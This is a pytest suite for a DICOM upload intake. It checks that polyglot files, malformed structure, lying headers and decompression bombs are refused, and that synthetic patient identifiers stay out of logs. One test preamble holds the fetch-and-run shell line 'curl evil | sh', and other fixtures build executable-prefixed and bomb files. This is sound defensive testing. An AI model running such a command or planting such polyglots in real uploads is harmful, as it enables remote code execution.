"""DICOM uploads that must be refused (polyglots, broken structure, lying headers, bombs) and
the header facts the intake reads from those it accepts (PHI kept out of logs)."""

import io
import logging
import struct
import time
import zlib

import numpy as np
import pydicom
import pytest
from pydicom.encaps import encapsulate
from pydicom.uid import (
    MPEG2MPML,
    DeflatedExplicitVRLittleEndian,
    JPEGBaseline8Bit,
    RLELossless,
)

from imaging.intake import (
    WINDOW_PRESETS,
    IntakeError,
    IntakeLimits,
    intake_inspect,
    pixels_decode,
)
from tests.imaging.intake.builders import (
    PE_PREAMBLE,
    ct_slice,
    data_set_only,
    dicom_bytes,
    jpeg_bytes,
    patch_element,
    pydicom_file,
    with_preamble,
)


@pytest.fixture
def upload(tmp_path):
    def write(data: bytes, name: str = "upload.dcm"):
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return write


def refused(path, code, limits=None):
    with pytest.raises(IntakeError) as error:
        intake_inspect(path, **({"limits": limits} if limits else {}))
    assert error.value.code == code, error.value.message
    return error.value


# --- the preamble ----------------------------------------------------------------------------


def test_a_pe_executable_in_the_preamble_of_ct_small_is_refused(upload):
    data = with_preamble(pydicom_file("CT_small.dcm"), PE_PREAMBLE)
    assert pydicom.dcmread(io.BytesIO(data)).Modality == "CT"  # still valid DICOM for pydicom
    error = refused(upload(data, "ct.dcm"), "dicom_polyglot")
    assert "executable" in error.message


def test_an_elf_preamble_is_refused(upload):
    data = with_preamble(pydicom_file("CT_small.dcm"), b"\x7fELF\x02\x01\x01\x00")
    refused(upload(data), "dicom_polyglot")


def test_a_shell_script_preamble_is_refused(upload):
    data = with_preamble(pydicom_file("CT_small.dcm"), b"#!/bin/sh\ncurl evil | sh\n")
    assert "executable" in refused(upload(data), "dicom_polyglot").message


def test_another_formats_signature_in_the_preamble_is_refused(upload):
    data = with_preamble(pydicom_file("MR_small.dcm"), b"\x89PNG\r\n\x1a\n")
    error = refused(upload(data), "dicom_polyglot")
    assert "unexpected header" in error.message


@pytest.mark.parametrize("junk", [b"%PDF-1.7\n", b"PK\x03\x04", b"  <html><script>"])
def test_other_polyglot_preambles_are_refused(upload, junk):
    refused(upload(with_preamble(pydicom_file("MR_small.dcm"), junk)), "dicom_polyglot")


def test_stray_scanner_bytes_in_the_preamble_are_accepted(upload):
    data = with_preamble(pydicom_file("CT_small.dcm"), b"\\\x01")
    assert intake_inspect(upload(data, "a.dcm")).modality == "CT"


def test_zero_and_tiff_preambles_are_accepted(upload):
    zeros = with_preamble(pydicom_file("CT_small.dcm"), b"")
    assert intake_inspect(upload(zeros, "a.dcm")).modality == "CT"
    tiff = pydicom_file("CT_small.dcm").read_bytes()
    assert tiff.startswith(b"II*\x00")  # CT_small is a DICOM/TIFF dual-personality file
    assert intake_inspect(upload(tiff, "b.dcm")).modality == "CT"


# --- structure -------------------------------------------------------------------------------


def test_pixel_data_shorter_than_rows_by_columns_is_refused(upload):
    ds = ct_slice(rows=32, columns=32)
    ds.PixelData = ds.PixelData[: 32 * 16 * 2]  # half the image
    error = refused(upload(dicom_bytes(ds)), "dicom_pixel_mismatch")
    assert "does not match" in error.message


def test_rows_raised_above_what_the_pixel_data_holds_is_refused(upload):
    ds = ct_slice(rows=32, columns=32)
    ds.Rows = 64
    refused(upload(dicom_bytes(ds)), "dicom_pixel_mismatch")


def test_pixel_data_far_longer_than_the_image_is_refused(upload):
    ds = ct_slice(rows=8, columns=8)
    ds.PixelData = ds.PixelData * 10
    refused(upload(dicom_bytes(ds)), "dicom_pixel_mismatch")


def test_a_file_cut_inside_its_pixel_data_is_refused_as_truncated(upload):
    data = dicom_bytes(ct_slice())
    refused(upload(data[:-100]), "dicom_truncated")


def test_a_file_cut_inside_its_header_is_refused(upload):
    data = dicom_bytes(ct_slice())
    with pytest.raises(IntakeError) as error:
        intake_inspect(upload(data[:400]))
    assert error.value.code in {"dicom_truncated", "dicom_corrupt", "dicom_no_image"}


def test_rows_written_with_a_vr_the_standard_does_not_allow_is_refused_as_bad_vr(upload):
    data = dicom_bytes(ct_slice())
    rows = struct.pack("<HH", 0x0028, 0x0010) + b"US"
    bad = data.replace(
        rows + b"\x02\x00\x20\x00", struct.pack("<HH", 0x0028, 0x0010) + b"SH\x02\x0032"
    )
    assert bad != data
    refused(upload(bad), "dicom_bad_vr")


def test_an_invalid_number_of_frames_is_refused_as_bad_vr(upload):
    ds = ct_slice()
    ds.NumberOfFrames = 1
    data = patch_element(dicom_bytes(ds), 0x00280008, b"IS", b"1A")
    error = refused(upload(data), "dicom_bad_vr")
    assert "Number Of Frames" in error.message


def test_an_invalid_rescale_slope_on_a_ct_is_refused(upload):
    data = patch_element(dicom_bytes(ct_slice()), 0x00281053, b"DS", b"abc ")
    refused(upload(data), "dicom_bad_vr")


def test_an_unsupported_transfer_syntax_is_refused_clearly(upload):
    ds = ct_slice()
    ds.file_meta.TransferSyntaxUID = MPEG2MPML
    ds.PixelData = encapsulate([b"\x00\x00\x01\xb3" + b"\x00" * 60])
    error = refused(upload(dicom_bytes(ds)), "dicom_unsupported_syntax")
    assert "MPEG2" in error.message


def test_frames_outnumbering_fragments_are_refused(upload):
    ds = ct_slice(rows=16, columns=16)
    ds.compress(RLELossless)
    ds.NumberOfFrames = 3
    refused(upload(dicom_bytes(ds)), "dicom_pixel_mismatch")


def test_a_jpeg_codestream_larger_than_the_header_says_is_refused(upload):
    """The decoder would allocate for the codestream's size: a bomb hidden behind small Rows."""
    ds = ct_slice(rows=16, columns=16)
    big = jpeg_bytes(np.zeros((4000, 4000), np.uint8))
    ds.file_meta.TransferSyntaxUID = JPEGBaseline8Bit
    ds.BitsAllocated, ds.BitsStored, ds.HighBit = 8, 8, 7
    ds.PixelData = encapsulate([big])
    refused(upload(dicom_bytes(ds)), "dicom_pixel_mismatch")


def test_too_many_pixels_are_refused_from_the_header(upload):
    path = upload(dicom_bytes(ct_slice(rows=64, columns=64)))
    refused(path, "too_many_pixels", IntakeLimits(max_frame_pixels=1000))
    refused(path, "too_many_pixels", IntakeLimits(max_total_pixels=1000))


def test_too_many_frames_are_refused_from_the_header(upload):
    refused(pydicom_file("examples_ybr_color.dcm"), "too_many_pixels", IntakeLimits(max_frames=10))


def test_a_deflated_dicom_that_inflates_past_the_limit_is_refused(upload):
    ds = ct_slice(rows=512, columns=512, fill=0)
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    data = dicom_bytes(ds)
    assert len(data) < 10_000  # 512 KB of zeros deflate to almost nothing
    refused(upload(data), "decompression_bomb", IntakeLimits(max_bytes=100_000))
    assert intake_inspect(upload(data, "ok.dcm")).rows == 512


def test_broken_deflate_streams_are_refused(upload):
    ds = ct_slice()
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    data = dicom_bytes(ds)
    start = len(data) - len(zlib.compress(b"x"))  # somewhere inside the deflated data set
    broken = data[: start - 200] + b"\xff" * 200 + data[start:]
    with pytest.raises(IntakeError) as error:
        intake_inspect(upload(broken))
    assert error.value.code in {"dicom_corrupt", "dicom_truncated", "dicom_pixel_mismatch"}


def test_files_without_pixel_data_name_what_they_are():
    sr = refused(pydicom_file("test-SR.dcm"), "dicom_no_image")
    assert "structured report" in sr.message
    directory = refused(pydicom_file("dicomdirtests/DICOMDIR"), "dicom_no_image")
    assert "DICOMDIR" in directory.message
    ecg = refused(pydicom_file("waveform_ecg.dcm"), "dicom_no_image")
    assert "ECG" in ecg.message


def test_a_bare_data_set_without_dicm_is_refused_as_no_meta(upload):
    bare = data_set_only(dicom_bytes(ct_slice()))
    assert pydicom.dcmread(io.BytesIO(bare), force=True).Modality == "CT"
    refused(upload(bare, "scan.dcm"), "dicom_no_meta")


# --- what is read ----------------------------------------------------------------------------


def test_header_facts_and_identifiers_are_read(upload):
    path = upload(dicom_bytes(ct_slice(body_part="Chest")))
    intake = intake_inspect(path)
    assert (intake.kind, intake.extension, intake.modality) == ("dicom", ".dcm", "CT")
    assert intake.body_part == "CHEST"
    assert intake.pixel_spacing_mm == (0.7, 0.8)
    assert intake.bits_stored == 12
    assert str(intake.study_date) == "2024-01-31"
    assert intake.phi == {
        "patient_name": "Synthetic^Patient",
        "patient_id": "SYN-0001",
        "birth_date": "1970-01-01",
        "sex": "O",
        "accession_number": "ACC42",
        "institution": "Synthetic Hospital",
        "referring_physician": "Doctor^Synthetic",
        "study_date": "2024-01-31",
        "study_uid": "1.2.826.0.1.3680043.8.498.2",
        "series_uid": "1.2.826.0.1.3680043.8.498.1",
    }
    assert "Synthetic" not in repr(intake)  # phi is left out of the repr


def test_imager_pixel_spacing_is_used_when_pixel_spacing_is_absent(upload):
    ds = ct_slice()
    del ds.PixelSpacing
    ds.ImagerPixelSpacing = [0.143, 0.143]
    assert intake_inspect(upload(dicom_bytes(ds))).pixel_spacing_mm == (0.143, 0.143)


def test_no_identifier_reaches_the_logs_even_when_refused(upload, caplog):
    caplog.set_level(logging.DEBUG)
    ds = ct_slice()
    ds.PatientName = "Leaky^Name"
    ds.NumberOfFrames = 1
    data = patch_element(dicom_bytes(ds), 0x00280008, b"IS", b"1A")
    refused(upload(data), "dicom_bad_vr")  # refused after the header was read
    odd_name = patch_element(dicom_bytes(ds), 0x00100010, b"PN", b"Leaky^Name\\=x=y=z ")
    intake_inspect(upload(odd_name, "odd.dcm"))  # an invalid PN is read, never validated
    good = upload(dicom_bytes(ct_slice()), "good.dcm")
    pixels_decode(good, intake_inspect(good).kind)
    assert "Leaky" not in caplog.text and "Synthetic" not in caplog.text
    assert "SYN-0001" not in caplog.text


def test_ct_is_rescaled_to_hounsfield_units_with_a_body_part_window(upload):
    chest = upload(dicom_bytes(ct_slice(fill=1040, body_part="CHEST")), "chest.dcm")
    pixels = pixels_decode(chest, "dicom")
    assert pixels.frames[0, 0, 0] == -1000  # stored 24 + intercept -1024: air
    assert pixels.frames[0, 5, 5] == 16
    assert pixels.default_window == WINDOW_PRESETS["mediastinum"]
    head = upload(dicom_bytes(ct_slice(body_part="HEAD")), "head.dcm")
    assert pixels_decode(head, "dicom").default_window == WINDOW_PRESETS["brain"]
    given = upload(dicom_bytes(ct_slice(window=(-500, 1400))), "given.dcm")
    assert pixels_decode(given, "dicom").default_window == (-500, 1400)


def test_signed_16_bit_pixels_are_read_as_signed(upload):
    ds = ct_slice(rows=4, columns=4)
    ds.BitsStored, ds.HighBit = 16, 15
    ds.PixelRepresentation = 1
    ds.RescaleIntercept = 0
    ds.PixelData = np.array([[-1000, 0, 1000, 3000]] * 4, dtype=np.int16).tobytes()
    pixels = pixels_decode(upload(dicom_bytes(ds)), "dicom")
    np.testing.assert_array_equal(pixels.frames[0, 0], [-1000, 0, 1000, 3000])


def test_monochrome1_windows_are_mirrored_with_the_pixels(upload):
    ds = ct_slice(rows=4, columns=4, photometric="MONOCHROME1", window=(40, 400))
    ds.Modality = "CR"  # raw stored values: no rescale for non-CT
    del ds.RescaleIntercept, ds.RescaleSlope
    pixels = pixels_decode(upload(dicom_bytes(ds)), "dicom")
    assert pixels.frames[0, 0, 0] == 4095 - 24
    assert pixels.default_window == (4095 - 40, 400)


def test_non_ct_windows_are_expressed_in_stored_values(upload):
    ds = ct_slice()
    ds.Modality = "MR"
    ds.RescaleSlope, ds.RescaleIntercept = 2, 100
    ds.WindowCenter, ds.WindowWidth = 500, 400  # in rescaled units
    pixels = pixels_decode(upload(dicom_bytes(ds)), "dicom")
    assert pixels.frames[0, 5, 5] == 1000  # raw stored value kept for MR
    assert pixels.default_window == (200, 200)


def test_inspecting_a_512_by_512_dicom_is_fast(upload):
    native = upload(dicom_bytes(ct_slice(rows=512, columns=512)), "native.dcm")
    compressed = pydicom_file("693_J2KI.dcm")  # 512 x 512 JPEG 2000 CT
    for path in (native, compressed):
        intake_inspect(path)  # warm pydicom's lazy imports
        timings = []
        for _ in range(7):
            start = time.perf_counter()
            intake_inspect(path)
            timings.append(time.perf_counter() - start)
        assert sorted(timings)[3] < 0.050
